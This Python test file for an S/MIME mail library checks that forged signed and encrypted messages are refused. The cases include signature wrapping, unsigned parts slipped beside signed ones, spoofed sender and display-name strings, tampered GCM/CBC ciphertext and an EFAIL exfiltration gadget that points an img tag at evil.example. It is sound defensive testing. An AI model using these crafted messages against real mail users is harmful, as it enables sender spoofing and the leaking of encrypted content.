"""Each class of attack on signed and encrypted mail, by name: what is shown is covered, or it does not count."""

import base64
import hashlib
from dataclasses import replace

import pytest

from secmail.cms import ciphers, der
from secmail.cms.algorithms import AUTH_ENVELOPED_DATA, DATA, ENVELOPED_DATA
from secmail.cms.ber import parse
from secmail.domain.messages import OpenedMessage
from secmail.domain.policy import SendPolicy
from secmail.domain.security import (
    AddressMatch,
    Chain,
    ChainFacts,
    EncryptedLayer,
    Finding,
    Integrity,
    Revocation,
    SignedLayer,
    Summary,
)
from tests.support import cms_forge as forge
from tests.support.pki_lab import PkiLab
from tests.support.smime_desk import TRUSTED, Desk, letter, wrapped

LAB = PkiLab()
LABO = LAB.organisation()
DOCTOR = LAB.confidentiality()
COLLEAGUE = LAB.person_software()
SECRET = b"Hemoglobine 12,1"
CBC = SendPolicy(content_algorithm="aes-256-cbc", key_transport="rsa-pkcs1")
ENTITY = forge.entity(b"Le bilan est normal.")
EVIL = forge.entity(b"Le bilan est grave.")


def findings(opened: OpenedMessage) -> set[Finding]:
    inner = [p for layer in opened.layers if isinstance(layer, SignedLayer) for s in layer.signers for p in s.problems]
    return {problem.code for problem in (*opened.problems, *inner)}


def first_signer(opened: OpenedMessage) -> Integrity:
    layer = next(layer for layer in opened.layers if isinstance(layer, SignedLayer))
    return layer.signers[0].integrity


def test_the_honest_message_is_trusted() -> None:
    opened = Desk((DOCTOR,)).open(wrapped(letter(), LABO, (DOCTOR,)))
    assert (opened.summary, opened.text, opened.problems) == (Summary.SIGNED_TRUSTED, "Le bilan est normal.\n", ())


# --- signatures that cover something else than what is shown


def test_content_confusion_embedded_content_beside_the_detached_one() -> None:
    p7s = forge.signed(ENTITY, LABO)  # embedded, hence verifiable on its own
    signature = forge.cms_entity(p7s, "application/pkcs7-signature; name=smime.p7s")
    opened = Desk().open(forge.multipart(EVIL, signature, kind="signed"))
    assert opened.summary is Summary.SIGNATURE_BROKEN
    assert Finding.CONTENT_CONFUSION in findings(opened)
    same = Desk().open(forge.multipart(ENTITY, signature, kind="signed"))
    assert same.summary is Summary.SIGNATURE_BROKEN


def test_a_signature_over_another_part_than_the_first() -> None:
    signature = forge.cms_entity(forge.signed(ENTITY, LABO, detached=True), "application/pkcs7-signature")
    opened = Desk().open(forge.multipart(EVIL, signature, ENTITY, kind="signed"))
    assert opened.summary is Summary.SIGNATURE_BROKEN
    assert "normal" not in opened.text


def test_a_signature_part_that_is_not_the_second() -> None:
    signature = forge.cms_entity(forge.signed(ENTITY, LABO, detached=True), "application/pkcs7-signature")
    opened = Desk().open(forge.multipart(ENTITY, EVIL, signature, kind="signed"))
    assert opened.summary is Summary.UNSIGNED


def test_parts_after_the_signature_are_not_covered() -> None:
    signature = forge.cms_entity(forge.signed(ENTITY, LABO, detached=True), "application/pkcs7-signature")
    opened = Desk().open(forge.multipart(ENTITY, signature, EVIL, kind="signed"))
    assert opened.summary is Summary.SIGNED_PARTLY
    assert Finding.PARTLY_SIGNED in findings(opened)
    assert "grave" not in opened.text
    assert [a.covered for a in opened.attachments] == [False]


@pytest.mark.parametrize("before", [True, False])
def test_a_part_put_before_or_after_the_signed_one(*, before: bool) -> None:
    signed = forge.cms_entity(forge.signed(ENTITY, LABO))
    parts = (EVIL, signed) if before else (signed, EVIL)
    opened = Desk().open(forge.multipart(*parts))
    assert opened.summary is Summary.SIGNED_PARTLY
    layer = opened.layers[0]
    assert isinstance(layer, SignedLayer) and not layer.covers_all and first_signer(opened) is Integrity.INTACT


def test_preamble_and_epilogue_are_not_shown() -> None:
    signature = forge.cms_entity(forge.signed(ENTITY, LABO, detached=True), "application/pkcs7-signature")
    raw = forge.multipart(ENTITY, signature, kind="signed").replace(b"--=_b", b"Bilan grave.\r\n--=_b", 1)
    opened = Desk().open(raw + b"\r\nBilan grave.\r\n")
    assert opened.summary is Summary.SIGNED_TRUSTED
    assert opened.text == "Le bilan est normal."


def test_a_boundary_that_is_only_the_beginning_of_a_line_does_not_divide() -> None:
    part = forge.entity(b"un\r\n--=_bc\r\ndeux")
    signature = forge.cms_entity(forge.signed(part, LABO, detached=True), "application/pkcs7-signature")
    opened = Desk().open(forge.multipart(part, signature, kind="signed"))
    assert (opened.summary, opened.text) == (Summary.SIGNED_TRUSTED, "un\n--=_bc\ndeux")


def test_a_signed_message_inside_message_rfc822_does_not_speak_for_the_outer_one() -> None:
    inner = wrapped(letter(), LABO)
    outer = b"From: resultats@labo-tilleuls.example\r\nContent-Type: message/rfc822\r\n\r\n" + inner
    opened = Desk().open(outer)
    assert (opened.summary, opened.text, opened.layers) == (Summary.UNSIGNED, "", ())
    assert opened.attachments[0].media_type == "message/rfc822"


def test_html_across_the_boundary_is_not_joined() -> None:
    signed = forge.cms_entity(forge.signed(forge.entity(b"<b>normal</b>", "text/html"), LABO))
    opened = Desk().open(forge.multipart(forge.entity(b"<div style='display:none'>", "text/html"), signed))
    assert opened.html is None
    assert opened.summary is Summary.SIGNED_PARTLY
    assert Finding.HTML_HIDDEN in findings(opened)


def test_references_across_the_boundary_bring_nothing_in() -> None:
    """A signed page that shows a picture, with a picture beside it that nobody signed: the page stays without."""
    page = forge.entity(b"<p>normal</p><img src='cid:x@y'>", "text/html")
    picture = forge.entity(b"GIF89a", "image/gif", "Content-ID: <x@y>", "Content-Disposition: inline")
    for parts in ((forge.cms_entity(forge.signed(page, LABO)), picture), (picture, page)):
        opened = Desk().open(forge.multipart(*parts, kind="related"))
        assert opened.summary is not Summary.SIGNED_TRUSTED
        assert [(one.media_type, one.covered) for one in opened.attachments] == [("image/gif", False)]
    inside = forge.multipart(page, picture, kind="related")
    whole = Desk().open(forge.cms_message(forge.signed(inside[inside.index(b"Content-Type") :], LABO)))
    assert (whole.summary, [one.covered for one in whole.attachments]) == (Summary.SIGNED_TRUSTED, [True])


def test_a_sealed_part_is_not_opened_by_a_reference() -> None:
    page = forge.entity(b"<iframe src='cid:s'></iframe><object data='cid:s'></object>", "text/html")
    part = wrapped(letter(SECRET), None, (DOCTOR,))
    part = b"Content-ID: <s>\r\n" + part[part.index(b"Content-Type") :]
    desk = Desk((DOCTOR,))
    opened = desk.open(forge.multipart(page, part, kind="related"))
    assert SECRET.decode() not in opened.text and not opened.encrypted and desk.asked == []


# --- signers


def test_no_signers_at_all() -> None:
    opened = Desk().open(forge.cms_message(forge.signed_by(ENTITY, (), bag=(LABO.der,))))
    assert opened.summary is Summary.SIGNATURE_BROKEN
    assert Finding.NO_SIGNERS in findings(opened)


def test_certificates_alone_are_no_signature() -> None:
    body = der.sequence(
        der.integer(1), der.set_of(), der.sequence(der.oid(DATA)), der.element(0xA0, LABO.der), der.set_of()
    )
    cms = der.sequence(der.oid("1.2.840.113549.1.7.2"), der.element(0xA0, body))
    opened = Desk().open(forge.cms_message(cms))
    assert (opened.summary, opened.layers) == (Summary.UNSIGNED, ())
    assert bytes(opened.attachments[0].content) == LABO.der


def test_a_good_signer_does_not_hide_a_broken_one() -> None:
    good = forge.signer_info(ENTITY, LABO)
    bad = forge.signer_info(EVIL, COLLEAGUE)
    opened = Desk().open(forge.cms_message(forge.signed_by(ENTITY, (good, bad), bag=(LABO.der, COLLEAGUE.der))))
    assert opened.summary is Summary.SIGNATURE_BROKEN
    assert Finding.SEVERAL_SIGNERS in findings(opened)


def test_a_signature_around_an_encryption_does_not_tell_who_wrote() -> None:
    """Whoever has the ciphertext can put it under his own signature, and wait for the answer."""
    part = wrapped(letter(SECRET), None, (DOCTOR,))
    part = part[part.index(b"Content-Type") :]
    signature = forge.cms_entity(forge.signed(part, LABO, detached=True), "application/pkcs7-signature")
    for raw in (forge.cms_message(forge.signed(part, LABO)), forge.multipart(part, signature, kind="signed")):
        opened = Desk((DOCTOR,)).open(raw)
        assert opened.encrypted and Finding.SIGNED_OUTSIDE in findings(opened)
    honest = wrapped(letter(SECRET), LABO, (DOCTOR,))
    triple = forge.signed(honest[honest.index(b"Content-Type") :], LABO)
    assert Finding.SIGNED_OUTSIDE not in findings(Desk((DOCTOR,)).open(forge.cms_message(triple)))


def test_a_second_signer_who_is_not_the_sender_is_a_mismatch() -> None:
    infos = (forge.signer_info(ENTITY, LABO), forge.signer_info(ENTITY, COLLEAGUE))
    opened = Desk().open(forge.cms_message(forge.signed_by(ENTITY, infos, bag=(LABO.der, COLLEAGUE.der))))
    assert opened.summary is Summary.SIGNED_MISMATCH


def test_a_signer_without_certificate_is_unverifiable() -> None:
    cms = forge.signed_by(ENTITY, (forge.signer_info(ENTITY, LABO),), bag=(COLLEAGUE.der,))
    opened = Desk().open(forge.cms_message(cms))
    assert opened.summary is Summary.SIGNATURE_BROKEN
    assert Finding.SIGNER_CERTIFICATE_MISSING in findings(opened)


def test_a_damaged_signature_part_is_broken_not_unsigned() -> None:
    signature = forge.cms_entity(b"\x30\x03\x02\x01", "application/pkcs7-signature")
    opened = Desk().open(forge.multipart(ENTITY, signature, kind="signed"))
    assert opened.summary is Summary.SIGNATURE_BROKEN


def test_existential_forgery_attributes_shown_as_content() -> None:
    attributes = b"".join(sorted(forge.plain_attributes(ENTITY)))
    as_content = der.element(0x31, attributes)
    info = forge.signer_info(as_content, LABO)
    opened = Desk().open(forge.cms_message(forge.signed_by(as_content, (info,), bag=(LABO.der,))))
    assert opened.summary is Summary.SIGNATURE_BROKEN


ATTRIBUTES = forge.plain_attributes(ENTITY)
WRONG_ATTRIBUTES = {
    "content type missing": ATTRIBUTES[1:],
    "digest missing": ATTRIBUTES[:1],
    "digest twice": [*ATTRIBUTES, ATTRIBUTES[1]],
    "digest with two values": [
        ATTRIBUTES[0],
        forge.attribute("1.2.840.113549.1.9.4", der.octets(hashlib.sha256(ENTITY).digest()), der.octets(b"x")),
    ],
    "other content type": [forge.attribute("1.2.840.113549.1.9.3", der.oid("1.2.3")), ATTRIBUTES[1]],
    "digest of something else": forge.plain_attributes(EVIL),
    "algorithms exchanged": [
        *ATTRIBUTES,
        forge.attribute(
            "1.2.840.113549.1.9.52",
            der.sequence(der.algorithm("1.3.14.3.2.26"), der.element(0xA1, der.oid("1.2.840.113549.1.1.5"), der.NULL)),
        ),
    ],
    "signed for another certificate": [
        *ATTRIBUTES,
        forge.attribute(
            "1.2.840.113549.1.9.16.2.47",
            der.sequence(der.sequence(der.sequence(der.octets(hashlib.sha256(COLLEAGUE.der).digest())))),
        ),
    ],
}


@pytest.mark.parametrize("name", WRONG_ATTRIBUTES)
def test_signed_attributes_that_contradict(name: str) -> None:
    info = forge.signer_info(ENTITY, LABO, attributes=b"".join(sorted(WRONG_ATTRIBUTES[name])))
    opened = Desk().open(forge.cms_message(forge.signed_by(ENTITY, (info,), bag=(LABO.der,))))
    assert opened.summary is Summary.SIGNATURE_BROKEN


def test_md5_is_never_valid_and_sha1_is_weak() -> None:
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding

    for oid, hashed, expected, integrity in (
        ("1.2.840.113549.2.5", hashes.MD5(), Summary.SIGNATURE_BROKEN, Integrity.UNVERIFIABLE),
        ("1.3.14.3.2.26", hashes.SHA1(), Summary.SIGNED_UNTRUSTED, Integrity.INTACT),
    ):
        signature = LABO.key.sign(ENTITY, padding.PKCS1v15(), hashed)
        info = forge.signer_info(ENTITY, LABO, digest=der.algorithm(oid), signature=signature)
        opened = Desk().open(forge.cms_message(forge.signed_by(ENTITY, (info,), bag=(LABO.der,))))
        assert (opened.summary, first_signer(opened)) == (expected, integrity)
        assert Finding.WEAK_SIGNATURE in findings(opened)


# --- senders

ADDRESS = "resultats@labo-tilleuls.example"
SENDERS = {
    "two mailboxes": (f"{ADDRESS}, fraude@ailleurs.example", Finding.SEVERAL_SENDERS),
    "two fields": (f"{ADDRESS}\r\nFrom: fraude@ailleurs.example", Finding.SEVERAL_SENDERS),
    "none": ("", Finding.NO_SENDER),
    "name like another address": (f'"chef@hopital.example" <{ADDRESS}>', Finding.DISPLAY_NAME_LIKE_ADDRESS),
    "name like an address, encoded": (
        f"=?utf-8?b?{base64.b64encode(b'chef@hopital.example').decode()}?= <{ADDRESS}>",
        Finding.DISPLAY_NAME_LIKE_ADDRESS,
    ),
    "name like an address, wide letters": (
        f'"chef\uff20hopital.example" <{ADDRESS}>',
        Finding.DISPLAY_NAME_LIKE_ADDRESS,
    ),
    "name like another address, spelt out": (
        f'"chef (at) hopital.example" <{ADDRESS}>',
        Finding.DISPLAY_NAME_LIKE_ADDRESS,
    ),
    "name like another address, in a circle": (
        f'"chef\u24d0hopital.example" <{ADDRESS}>',
        Finding.DISPLAY_NAME_LIKE_ADDRESS,
    ),
    "another mailbox of odd letters": (f'{ADDRESS}, "fraude x"@ailleurs.example', Finding.SEVERAL_SENDERS),
    "another mailbox on a bare machine": (f"{ADDRESS}, fraude@[192.0.2.1]", Finding.SEVERAL_SENDERS),
    "another mailbox first": (f'"fraude x"@ailleurs.example, {ADDRESS}', Finding.SEVERAL_SENDERS),
    "second brackets": (f"<{ADDRESS}> <fraude@ailleurs.example>", Finding.SEVERAL_SENDERS),
    "a route": (f"{ADDRESS}, <@relais.example:fraude@ailleurs.example>", Finding.SEVERAL_SENDERS),
    "empty name": (f'"" <{ADDRESS}>', Finding.DISPLAY_NAME_LIKE_ADDRESS),
    "another sender field": (f"{ADDRESS}\r\nSender: fraude@ailleurs.example", Finding.SENDER_FIELD_DIFFERS),
}


@pytest.mark.parametrize("name", SENDERS)
def test_a_doubtful_sender_is_never_trusted(name: str) -> None:
    sender, finding = SENDERS[name]
    opened = Desk().open(forge.cms_message(forge.signed(ENTITY, LABO), sender=sender))
    assert finding in findings(opened)
    assert opened.summary is Summary.SIGNED_MISMATCH


def test_a_name_that_repeats_its_own_address_is_harmless() -> None:
    opened = Desk().open(forge.cms_message(forge.signed(ENTITY, LABO), sender=f'"{ADDRESS}" <{ADDRESS}>'))
    assert opened.summary is Summary.SIGNED_TRUSTED


def test_an_unquoted_comma_in_a_name_is_harmless() -> None:
    opened = Desk().open(forge.cms_message(forge.signed(ENTITY, LABO), sender=f"Tilleuls, Labo (des) <{ADDRESS}>"))
    assert opened.summary is Summary.SIGNED_TRUSTED


def test_a_signature_of_somebody_else_is_a_mismatch() -> None:
    opened = Desk().open(forge.cms_message(forge.signed(ENTITY, COLLEAGUE)))
    assert opened.summary is Summary.SIGNED_MISMATCH


def test_protected_from_counts_and_an_other_outer_from_is_told() -> None:
    raw = wrapped(letter(), LABO, (DOCTOR,))
    forged = raw.replace(b"From: resultats@labo-tilleuls.example", b"From: chef@hopital.example")
    opened = Desk((DOCTOR,)).open(forged)
    assert opened.headers.from_[0].address == ADDRESS
    assert Finding.HEADERS_DIFFER in findings(opened)
    assert opened.summary is Summary.SIGNED_MISMATCH


def test_an_unprotected_reply_to_is_not_mixed_with_protected_fields() -> None:
    raw = b"Reply-To: fraude@ailleurs.example\r\n" + wrapped(letter(), LABO, (DOCTOR,))
    assert Desk((DOCTOR,)).open(raw).headers.reply_to == ()


@pytest.mark.parametrize(
    ("known", "expected"),
    [
        ((), AddressMatch.UNKNOWN),
        (("camille.fontaine@cabinet.example",), AddressMatch.MATCH),
        (("autre@cabinet.example",), AddressMatch.MISMATCH),
    ],
)
def test_a_card_without_address_is_matched_by_known_addresses(known: tuple[str, ...], expected: AddressMatch) -> None:
    raw = wrapped(letter(sender="Camille.Fontaine@cabinet.example"), LAB.cps_signature())
    opened = Desk(chain=replace(TRUSTED, known_addresses=known)).open(raw)
    layer = opened.layers[0]
    assert isinstance(layer, SignedLayer)
    assert layer.signers[0].address_match is expected


def test_an_address_in_the_certificate_counts_more_than_a_known_one() -> None:
    raw = wrapped(letter(sender="autre@labo.example"), LABO)
    opened = Desk(chain=ChainFacts(Chain.TRUSTED, Revocation.GOOD, ("autre@labo.example",))).open(raw)
    assert opened.summary is Summary.SIGNED_MISMATCH


# --- encryption


def test_efail_direct_exfiltration_the_encrypted_part_stays_closed() -> None:
    sealed = wrapped(letter(SECRET), None, (DOCTOR,))
    part = sealed[sealed.index(b"Content-Type") :]
    raw = forge.multipart(
        forge.entity(b'<img src="http://evil.example/', "text/html"), part, forge.entity(b'">', "text/html")
    )
    desk = Desk((DOCTOR,))
    opened = desk.open(raw)
    assert SECRET.decode() not in opened.text
    assert opened.html is None and not opened.encrypted
    assert Finding.PARTLY_ENCRYPTED in findings(opened)
    assert desk.asked == []
    layer = opened.layers[0]
    assert isinstance(layer, EncryptedLayer) and not layer.opened


def test_efail_gadget_html_without_authentication_is_given_as_text_only() -> None:
    raw = wrapped(letter(b"<p>Bilan</p>", content_type="text/html"), None, (DOCTOR,), policy=CBC)
    opened = Desk((DOCTOR,)).open(raw)
    assert (opened.text, opened.html) == ("Bilan", None)
    assert Finding.NOT_AUTHENTICATED in findings(opened)


def test_an_intact_signature_inside_authenticates_cbc() -> None:
    opened = Desk((DOCTOR,)).open(wrapped(letter(), LABO, (DOCTOR,), policy=CBC))
    assert (opened.summary, opened.problems) == (Summary.SIGNED_TRUSTED, ())


def test_parts_beside_an_encrypted_signed_one_are_outside_of_the_encryption() -> None:
    sealed = wrapped(letter(SECRET), None, (DOCTOR,))
    part = sealed[sealed.index(b"Content-Type") :]
    signature = forge.cms_entity(forge.signed(part, LABO, detached=True), "application/pkcs7-signature")
    opened = Desk((DOCTOR,)).open(forge.multipart(part, signature, EVIL, kind="signed"))
    assert not opened.encrypted
    assert opened.summary is Summary.SIGNED_PARTLY


def _inner_fields(raw: bytes) -> tuple[bytes, bytes]:
    """(head, CMS) of a wrapped message."""
    head, _, body = raw.partition(b"\r\n\r\n")
    return head, base64.b64decode(body)


def _rewritten(raw: bytes, old: bytes, new: bytes) -> bytes:
    head, cms = _inner_fields(raw)
    assert old in cms
    return head + b"\r\n\r\n" + base64.encodebytes(cms.replace(old, new))


def _closed(opened: OpenedMessage) -> None:
    assert opened.text == "" and opened.html is None and opened.attachments == ()
    assert not any(isinstance(layer, EncryptedLayer) and layer.opened for layer in opened.layers)


def test_gcm_tag_failure_gives_not_one_byte() -> None:
    head, cms = _inner_fields(wrapped(letter(), None, (DOCTOR,)))
    changed = cms[:-1] + bytes([cms[-1] ^ 1])
    opened = Desk((DOCTOR,)).open(head + b"\r\n\r\n" + base64.encodebytes(changed))
    _closed(opened)
    assert Finding.DECRYPT_FAILED in findings(opened)


def test_mode_mixing_an_aead_identifier_in_enveloped_data_is_refused() -> None:
    raw = _rewritten(wrapped(letter(), None, (DOCTOR,)), der.oid(AUTH_ENVELOPED_DATA), der.oid(ENVELOPED_DATA))
    opened = Desk((DOCTOR,)).open(raw)
    _closed(opened)
    assert Finding.MALFORMED in findings(opened)


def test_cve_2026_34182_a_cipher_without_authentication_in_auth_enveloped_data_is_refused() -> None:
    aes_gcm, aes_cbc = "2.16.840.1.101.3.4.1.46", "2.16.840.1.101.3.4.1.42"
    opened = Desk((DOCTOR,)).open(_rewritten(wrapped(letter(), None, (DOCTOR,)), der.oid(aes_gcm), der.oid(aes_cbc)))
    _closed(opened)
    assert Finding.MALFORMED in findings(opened)


@pytest.mark.parametrize(
    "parameters",
    [
        der.sequence(der.octets(b"n" * 12), der.integer(4)),
        der.sequence(der.octets(b"n" * 12), der.integer(0)),
        der.sequence(der.octets(b"n" * 12), der.integer(17)),
        der.sequence(der.octets(b""), der.integer(16)),
        der.sequence(der.octets(b"n" * 4096), der.integer(16)),
        der.octets(b"n" * 12),
        der.NULL,
        b"",
    ],
    ids=["tag 4", "tag 0", "tag 17", "nonce 0", "nonce 4096 (CVE-2025-15467)", "bare nonce", "null", "absent"],
)
def test_gcm_parameters_out_of_bounds_are_refused(parameters: bytes) -> None:
    from secmail.domain.errors import SecmailError

    with pytest.raises(SecmailError):
        ciphers.read_cipher(parse(der.algorithm("2.16.840.1.101.3.4.1.46", parameters)))


def test_a_truncated_tag_is_refused() -> None:
    head, cms = _inner_fields(wrapped(letter(), None, (DOCTOR,)))
    tag = der.octets(cms[-16:])
    short = cms.replace(tag, der.octets(cms[-16:-12]))
    opened = Desk((DOCTOR,)).open(head + b"\r\n\r\n" + base64.encodebytes(short))
    _closed(opened)


def test_a_wrong_pkcs1_block_looks_like_any_failure() -> None:
    """No oracle: a damaged key block and damaged content give the same facts and the same words."""
    raw = wrapped(letter(), LABO, (DOCTOR,), policy=CBC)
    head, cms = _inner_fields(raw)
    seen = set()
    for at in (400, len(cms) - 3):
        changed = bytearray(cms)
        changed[at] ^= 0x55
        opened = Desk((DOCTOR,)).open(head + b"\r\n\r\n" + base64.encodebytes(changed))
        seen.add((opened.text, tuple(opened.problems), opened.summary))
        _closed(opened)
    assert len(seen) == 1


def test_not_for_us_shows_nothing() -> None:
    opened = Desk().open(wrapped(letter(), LABO, (DOCTOR,)))
    _closed(opened)
    assert Finding.NOT_FOR_US in findings(opened)
    layer = opened.layers[0]
    assert isinstance(layer, EncryptedLayer) and layer.reason is Finding.NOT_FOR_US
